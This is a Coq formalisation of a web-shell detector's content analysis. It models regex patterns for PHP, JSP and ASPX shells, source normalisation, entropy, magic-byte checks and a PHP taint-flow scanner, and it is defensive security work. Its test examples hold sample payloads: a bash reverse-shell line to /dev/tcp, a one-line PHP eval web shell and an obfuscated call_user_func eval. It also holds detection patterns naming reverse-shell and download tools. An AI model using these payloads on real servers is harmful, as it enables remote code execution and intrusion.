(* ===== verification/WebAnalysis.v ===== *)
(** The content analysis of [internal/detect/web]: the patterns and the
    normalisation before them (patterns.go, analysis.go), and the taint flow
    through a PHP file (php_ast.go).

    Entropy is compared in exact arithmetic: the entropy of [n] bytes with
    counts [c] is [log2 (n^n / prod c^c) / n], so that a bound on it is an
    inequality between integers.  Go computes it in floating point, which can
    differ by a rounding. *)
From S2P Require Export GoRegexp GoCrypto GoOS.

(** A quotation mark, for patterns. *)
Definition q : string := str dquote.

(** * Normalisation *)

Definition lineCommentRE : re := must_compile "//[^\n]*".
Definition hashCommentRE : re := must_compile "(?m)(^|\s)#[^\n]*".
Definition blockCommentRE : re := must_compile "(?s)/\*.*?\*/".

Definition stripPHPComments (s : string) : string :=
  let s := replace_all lineCommentRE (λ _, "") s in
  let s := replace_all hashCommentRE (λ _, "") s in
  replace_all blockCommentRE (λ _, " ") s.

Definition concatRE : re :=
  must_compile (q +:+ "([^" +:+ q +:+ "\\\n]{0,128})" +:+ q +:+ "\s*\.\s*" +:+ q +:+ "([^" +:+ q +:+ "\\\n]{0,128})" +:+ q).

Definition collapse_once (s : string) : string :=
  replace_all concatRE (λ '(_, st), q +:+ cap_string s 1 st +:+ cap_string s 2 st +:+ q) s.

Fixpoint collapse_go (n : nat) (s : string) : string :=
  match n with
  | O => s
  | S n => let out := collapse_once s in if out =s? s then s else collapse_go n out
  end.

Definition collapseStringConcat : string → string := collapse_go 8.

Definition containsShellLikely (s : string) : bool :=
  existsb (contains (to_lower s))
    ["eval"; "system"; "exec"; "passthru"; "bash"; "/bin/"; "wget"; "curl"; "python -c"; "whoami"].

Definition shortB64RE : re := must_compile ("[" +:+ q +:+ "'][A-Za-z0-9+/]{16,118}={0,2}[" +:+ q +:+ "']").

Definition decode_blob (m : string) : string :=
  match Base64.decode (trim (λ c, Ascii.eqb c dquote || Ascii.eqb c squote) m) with
  | None => m
  | Some dec => if negb (containsShellLikely dec) then m else m +:+ " /*<decoded>*/ " +:+ dec
  end.

Definition decodeInlineBase64 (s : string) : string :=
  replace_all shortB64RE (λ '(i, st), decode_blob (sslice i (ms_pos st) s)) s.

Definition multiSpace : re := must_compile "[ ]{2,}".

Definition normalizeSource (src : string) : string :=
  let s := decodeInlineBase64 (collapseStringConcat (stripPHPComments src)) in
  replace_all multiSpace (λ _, " ") (replace_byte tab " " s).

(** * Patterns *)

Record namedPattern := mkNamedPattern { np_name : string; np_re : re }.

Definition pat (name pattern : string) : namedPattern := mkNamedPattern name (must_compile pattern).

(** Either quotation mark, and none of them. *)
Definition quotes : string := "['" +:+ q +:+ "]".
Definition no_quotes : string := "[^'" +:+ q +:+ "]".

Definition webPatterns : list namedPattern := Eval vm_compute in
  [pat "dynamic_eval" "(?i)\b(eval|assert|create_function)\s*\(";
   pat "php_exec_funcs" "(?i)\b(shell_exec|passthru|system|exec|popen|proc_open|pcntl_exec|dl|proc_nice)\s*\(";
   pat "user_input_call" ("(?i)\$_?(GET|POST|REQUEST|COOKIE|SERVER|ENV|FILES)\s*\[\s*" +:+ quotes +:+ no_quotes +:+ "+" +:+
     quotes +:+ "\s*\]\s*\(");
   pat "preg_replace_e" ("(?i)preg_replace\s*\([^)]*\/[imsxADSUXJu]*e[imsxADSUXJu]*" +:+ quotes);
   pat "reflection_invoke" "(?i)\bReflectionFunction\b|\bReflectionMethod\b.*invoke";
   pat "encoding_obfuscation" "(?i)\b(base64_decode|gzinflate|gzuncompress|str_rot13|convert_uudecode|hex2bin|pack)\s*\(";
   pat "double_dollar_var_var" "\$\$[A-Za-z_]";
   pat "variable_function_call" "\$[A-Za-z_][A-Za-z0-9_]*\s*\(";
   pat "backtick_exec" "`[^`\n]{2,}`";
   pat "globals_bypass" ("(?i)\$\{[" +:+ q +:+ "']GLOBALS[" +:+ q +:+ "']\}|\$GLOBALS\[");
   pat "assert_user_input" "(?i)assert\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)";
   pat "include_remote" ("(?i)(include|require)(_once)?\s*\(\s*" +:+ quotes +:+ "https?://");
   pat "chmod_suid" "(?i)chmod\s*\(\s*[^,]+,\s*0?[2-7]?7[0-7][0-7]\s*\)";
   pat "file_put_contents_remote"
     ("(?i)file_put_contents\s*\([^)]*,\s*file_get_contents\s*\(\s*" +:+ quotes +:+ "https?://");
   pat "move_uploaded_file_dynamic" "(?i)move_uploaded_file\s*\([^)]*\$_FILES";
   pat "short_eval_payload" "(?s)<\?(php|=)?\s*@?(eval|assert)\s*\(\s*\$_(GET|POST|REQUEST|COOKIE)\s*\[";
   pat "jsp_runtime_exec" "(?i)Runtime\.getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(";
   pat "jsp_processbuilder" "(?i)new\s+ProcessBuilder\s*\(";
   pat "jsp_scriptlet_exec" "(?s)<%\s*@?\s*.{0,200}Runtime\s*\.";
   pat "jsp_class_loader" "(?i)defineClass\s*\(|ClassLoader\s*\(\s*\)\s*\.\s*defineClass";
   pat "aspx_process_start" "(?i)System\.Diagnostics\.Process\s*\.\s*Start\s*\(";
   pat "aspx_response_write_eval" "(?i)Response\.Write\s*\(.*\bRequest\s*\[";
   pat "aspx_unsafe_new_sprocess" "(?i)new\s+Process\s*\(\s*\)|ProcessStartInfo";
   pat "long_base64_blob" "(?:[A-Za-z0-9+/]{120,}={0,2})";
   pat "hex_blob" "(?:\\x[0-9a-fA-F]{2}){20,}";
   pat "chr_chain" "(?i)(chr\s*\(\s*\d{1,3}\s*\)\s*\.\s*){4,}";
   pat "eval_gzinflate_chain" "(?is)eval\s*\(\s*(base64_decode|gzinflate|gzuncompress|str_rot13)";
   pat "reverse_shell_socket" "(?i)fsockopen\s*\(|socket_connect\s*\(|stream_socket_client\s*\(";
   pat "php_wrapper_abuse" "(?i)php://(input|filter|memory|temp)";
   pat "data_wrapper_exec" "(?i)data://text/plain[;,]";
   pat "bash_reverse_shell" "/dev/tcp/\d";
   pat "call_user_func_eval" ("(?i)call_user_func(_array)?\s*\(\s*" +:+ quotes +:+
     "(eval|assert|system|exec|passthru|shell_exec|pcntl_exec)" +:+ quotes)].

Definition suspiciousExtensions : list string :=
  [".php"; ".php3"; ".php4"; ".php5"; ".php7"; ".phtml"; ".phar"; ".inc"; ".jsp"; ".jspx"; ".jhtml";
   ".asp"; ".aspx"; ".ashx"; ".asmx"; ".cfm"; ".cfml"; ".pl"; ".cgi"].

Definition rawOnlyPatterns : list string := ["long_base64_blob"; "hex_blob"; "chr_chain"].

Definition matchingPatterns (content : string) : list string :=
  let normalized := normalizeSource content in
  map np_name (List.filter (λ p, match_re (np_re p) (if mem_str (np_name p) rawOnlyPatterns then content else normalized))
                 webPatterns).

Definition execPrimitivePatterns : list string :=
  ["dynamic_eval"; "php_exec_funcs"; "preg_replace_e"; "jsp_runtime_exec"; "jsp_processbuilder"; "aspx_process_start";
   "backtick_exec"; "call_user_func_eval"; "assert_user_input"; "short_eval_payload"; "eval_gzinflate_chain"].

Definition inputChannelPatterns : list string :=
  ["user_input_call"; "assert_user_input"; "short_eval_payload"; "aspx_response_write_eval"; "php_wrapper_abuse";
   "move_uploaded_file_dynamic"].

Definition obfuscationPatterns : list string :=
  ["encoding_obfuscation"; "long_base64_blob"; "hex_blob"; "chr_chain"; "eval_gzinflate_chain"; "double_dollar_var_var"].

Definition combinedPatterns : list string := ["assert_user_input"; "short_eval_payload"; "user_input_call"].

(** Whether there is an execution primitive, an input channel, obfuscation. *)
Definition classifyPatternCategories (matched : list string) : bool * bool * bool :=
  let has l := existsb (λ m, mem_str m l) matched in
  (has execPrimitivePatterns || has combinedPatterns, has inputChannelPatterns || has combinedPatterns,
   has obfuscationPatterns).

(** * Entropy *)

Definition byte_count (s : string) (b : nat) : Z := scount (Ascii.eqb (ascii_of_nat b)) s.

(** The product of [c^c] over the counts. *)
Definition counts_power (s : string) : Z :=
  fold_left (λ acc b, let c := byte_count s b in if c =? 0 then acc else acc * c ^ c) (seq 0 256) 1.

(** The integer part of [d] times the entropy: the largest [k] with
    [2^(k n) prod c^(c d) <= n^(n d)]. *)
Definition entropy_scaled (d : Z) (s : string) : Z :=
  if s =s? "" then 0 else Z.log2 ((slen s ^ slen s) ^ d / counts_power s ^ d) / slen s.

(** [ent >= entropyThreshold], that is 7.5. *)
Definition high_entropy (s : string) : bool := 15 <=? entropy_scaled 2 s.

(** [FormatFloat(h, 'f', 2, 64)]: the nearest number of hundredths. *)
Definition entropy_text (s : string) : string :=
  let k := (entropy_scaled 200 s + 1) / 2 in
  itoa (k / 100) +:+ "." +:+ itoa (k mod 100 / 10) +:+ itoa (k mod 10).

(** * Magic bytes *)

Definition bytes_prefix (l : list Z) : string := Sha256.to_string l.

Definition phpLike_ext (low : string) : bool := existsb (has_suffix low) [".php"; ".phtml"; ".phar"; ".inc"].

Definition magicByteMismatch (path data : string) : bool :=
  if slen data <? 4 then false
  else
    let head := stake 16 data in
    let ext := to_lower path in
    let startsPHP := existsb (has_prefix head) ["<?php"; "<?="; "<?" +:+ str nl; "<? "; "<?" +:+ str tab; "<?xml"] in
    let startsELF := has_prefix head (String "127" "ELF") in
    let startsMZ := has_prefix head "MZ" in
    let startsJPEG := has_prefix head (bytes_prefix [0xff; 0xd8; 0xff]) in
    let startsPNG := has_prefix head (bytes_prefix [0x89; 80; 78; 71]) in
    let startsGIF := has_prefix head "GIF8" in
    if phpLike_ext ext && (startsELF || startsMZ) then true
    else if (startsJPEG || startsPNG || startsGIF) && contains data "<?php" then true
    else startsPHP && negb (phpLike_ext ext) &&
         existsb (has_suffix ext) [".jpg"; ".jpeg"; ".png"; ".gif"; ".txt"; ".log"; ".ico"; ".css"; ".js"; ".html"].

Definition hasSuspiciousExtension (path : string) : bool := existsb (has_suffix (to_lower path)) suspiciousExtensions.

(** * Tokens of PHP *)

Inductive phpTokenKind := phpTokOpen | phpTokIdent | phpTokVar | phpTokString | phpTokPunct | phpTokNumber.

#[export] Instance phpTokenKind_eq : EqDecision phpTokenKind.
Proof. solve_decision. Defined.

Record phpToken := mkTok { tk_kind : phpTokenKind; tk_value : string }.

Definition dangerousSinks : list string :=
  ["eval"; "assert"; "create_function"; "system"; "exec"; "passthru"; "shell_exec"; "proc_open"; "popen"; "pcntl_exec";
   "preg_replace"; "include"; "include_once"; "require"; "require_once"; "file_get_contents"; "file_put_contents";
   "fwrite"].

Definition taintedSources : list string :=
  ["_GET"; "_POST"; "_REQUEST"; "_COOKIE"; "_SERVER"; "_FILES"; "_ENV"; "HTTP_RAW_POST_DATA"; "php://input"].

(** [unicode.IsLetter] of a byte taken as a code point: ASCII and Latin-1. *)
Definition isAlpha (c : ascii) : bool :=
  is_letter c || (code c =? 0xaa) || (code c =? 0xb5) || (code c =? 0xba) ||
  in_range 0xc0 0xd6 c || in_range 0xd8 0xf6 c || in_range 0xf8 0xff c.

(** [string(c)] of a byte: its code point in UTF-8. *)
Definition rune_string (c : ascii) : string :=
  if code c <? 128 then str c else String (chr (192 + code c / 64)) (str (chr (128 + code c mod 64))).

Definition word_char (c : ascii) : bool := isAlpha c || is_digit c || Ascii.eqb c "_".
Definition not_newline (c : ascii) : bool := negb (Ascii.eqb c nl).

(** The rest of a string literal after its opening mark: what was consumed,
    the closing mark included, and what follows. *)
Fixpoint string_body (quote : ascii) (s : string) : string * string :=
  match s with
  | "" => ("", "")
  | String c r =>
      if Ascii.eqb c backslash then
        match r with
        | String d r' => let '(b, rest) := string_body quote r' in (String c (String d b), rest)
        | "" => (str c, "")
        end
      else if Ascii.eqb c quote then (str c, r)
      else let '(b, rest) := string_body quote r in (String c b, rest)
  end.

(** After [/*]: what follows the end of the comment. *)
Definition skip_block (s : string) : string :=
  match sindex s "*/" with Some i => sdrop (i + 2) s | None => "" end.

(** One step inside the tags: the token, if there is one, and the rest. *)
Definition lex_step (s : string) : option phpToken * string :=
  match s with
  | "" => (None, "")
  | String c r =>
      if Ascii.eqb c " " || Ascii.eqb c tab || Ascii.eqb c "013" || Ascii.eqb c nl then (None, r)
      else if has_prefix s "//" || Ascii.eqb c "#" then (None, snd (span not_newline s))
      else if has_prefix s "/*" then (None, skip_block (sdrop 2 s))
      else if Ascii.eqb c "$" then let '(w, rest) := span word_char r in (Some (mkTok phpTokVar (String c w)), rest)
      else if Ascii.eqb c squote || Ascii.eqb c dquote then
        let '(b, rest) := string_body c r in
        (if b =s? "" then None else Some (mkTok phpTokString (stake (String.length b - 1) b)), rest)
      else if isAlpha c || Ascii.eqb c "_" then let '(w, rest) := span word_char s in (Some (mkTok phpTokIdent w), rest)
      else if is_digit c then
        let '(w, rest) := span (λ d, is_digit d || Ascii.eqb d ".") s in (Some (mkTok phpTokNumber w), rest)
      else (Some (mkTok phpTokPunct (rune_string c)), r)
  end.

(** The tokens up to [?>] or the end, and what follows. *)
Fixpoint lex_php (fuel : nat) (s : string) : list phpToken * string :=
  match fuel with
  | O => ([], s)
  | S n =>
      if s =s? "" then ([], "")
      else if has_prefix s "?>" then ([], sdrop 2 s)
      else
        let '(t, rest) := lex_step s in
        let '(ts, rest) := lex_php n rest in
        (match t with Some t => t :: ts | None => ts end, rest)
  end.

(** What follows an opening tag. *)
Definition skip_open (s : string) : string :=
  match s with
  | String c _ => if Ascii.eqb c "=" || Ascii.eqb c "p" || Ascii.eqb c "P"
                  then snd (span (λ c, isAlpha c || Ascii.eqb c "=") s) else s
  | "" => ""
  end.

Fixpoint tokenize_php_go (fuel : nat) (s : string) : list phpToken :=
  match fuel with
  | O => []
  | S n =>
      match sindex s "<?" with
      | None => []
      | Some i =>
          let '(ts, rest) := lex_php (String.length s) (skip_open (sdrop (i + 2) s)) in
          mkTok phpTokOpen "<?" :: ts ++ tokenize_php_go n rest
      end
  end.

Definition tokenizePHP (src : string) : list phpToken := tokenize_php_go (String.length src) src.

(** * Taint *)

Definition tok_is (k : phpTokenKind) (t : phpToken) : bool := bool_decide (tk_kind t = k).

Fixpoint sliceRHS (toks : list phpToken) : list phpToken :=
  match toks with
  | [] => []
  | t :: toks => if tok_is phpTokPunct t && ((tk_value t =s? ";") || (tk_value t =s? str nl)) then []
                 else t :: sliceRHS toks
  end.

Fixpoint sliceCallArgs (depth : nat) (toks : list phpToken) : list phpToken :=
  match toks with
  | [] => []
  | t :: toks =>
      if tk_value t =s? "(" then t :: sliceCallArgs (S depth) toks
      else if tk_value t =s? ")" then
        match depth with
        | S (S d) => t :: sliceCallArgs (S d) toks
        | _ => []
        end
      else t :: sliceCallArgs depth toks
  end.

Definition tainted_token (tainted : gmap string bool) (t : phpToken) : bool :=
  match tk_kind t with
  | phpTokVar => default false (tainted !! tk_value t) || mem_str (trim_prefix (tk_value t) "$") taintedSources
  | phpTokIdent => mem_str (tk_value t) taintedSources
  | phpTokString => mem_str (tk_value t) taintedSources || has_prefix (tk_value t) "php://input"
  | _ => false
  end.

Definition rhsUsesTaint (toks : list phpToken) (tainted : gmap string bool) : bool := existsb (tainted_token tainted) toks.

Definition rhsAllLiteral (toks : list phpToken) : bool :=
  forallb (λ t, tok_is phpTokString t || tok_is phpTokNumber t || (tk_value t =s? " ") || (tk_value t =s? ".")) toks.

(** [$x = ...] at the head: the variable and its right-hand side. *)
Definition assignment (toks : list phpToken) : option (string * list phpToken) :=
  match toks with
  | t :: eq :: ((_ :: _) as rhs) =>
      if tok_is phpTokVar t && tok_is phpTokPunct eq && (tk_value eq =s? "=")
      then Some (tk_value t, sliceRHS rhs) else None
  | _ => None
  end.

(** [sink(...] at the head: the sink and its arguments. *)
Definition sink_call (toks : list phpToken) : option (string * list phpToken) :=
  match toks with
  | t :: p :: args =>
      if tok_is phpTokIdent t && (tk_value p =s? "(") && mem_str (tk_value t) dangerousSinks
      then Some (tk_value t, sliceCallArgs 1 args) else None
  | _ => None
  end.

Definition assign (tainted : gmap string bool) (x : string) (rhs : list phpToken) : gmap string bool :=
  if rhsUsesTaint rhs tainted then <[x := true]> tainted
  else if rhsAllLiteral rhs then <[x := false]> tainted else tainted.

(** The walk over the tokens: the first sink that is reached by taint. *)
Fixpoint taint_walk (toks : list phpToken) (tainted : gmap string bool) : option string :=
  match toks with
  | [] => None
  | _ :: rest =>
      match assignment toks, sink_call toks with
      | Some (x, rhs), _ => taint_walk rest (assign tainted x rhs)
      | None, Some (name, args) => if rhsUsesTaint args tainted then Some name else taint_walk rest tainted
      | None, None => taint_walk rest tainted
      end
  end.

Definition scanPHPTaintFlow (src : string) : bool * string :=
  if negb (contains src "<?") then (false, "")
  else match taint_walk (tokenizePHP src) ∅ with Some name => (true, name) | None => (false, "") end.

(** The examples of the tests, and an entropy. *)
Example taint_tests :
  map scanPHPTaintFlow
    ["<?php eval($_POST['cmd']); ?>"; "<?php $x = $_GET['p']; system($x); ?>";
     "<?php $x = " +:+ q +:+ "static" +:+ q +:+ "; system($x); ?>"; "<html>hello</html>"] =
  [(true, "eval"); (true, "system"); (false, ""); (false, "")].
Proof. vm_compute. reflexivity. Qed.

Example entropy_tests : (entropy_text "abcabcabc", entropy_text "", high_entropy "abc") = ("1.58", "0.00", false).
Proof. vm_compute. reflexivity. Qed.

Example pattern_tests :
  (matchingPatterns "<?php eval($_GET['c']);", matchingPatterns "<?php echo 1;",
   matchingPatterns ("<?php call_user_func(" +:+ q +:+ "ev" +:+ q +:+ "." +:+ q +:+ "al" +:+ q +:+ ", $_GET['c']);"),
   matchingPatterns "<?php $x=chr(101).chr(118).chr(97).chr(108).chr(40);",
   matchingPatterns "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1") =
  (["dynamic_eval"; "short_eval_payload"], [], ["call_user_func_eval"], ["chr_chain"], ["bash_reverse_shell"]).
Proof. vm_compute. reflexivity. Qed.
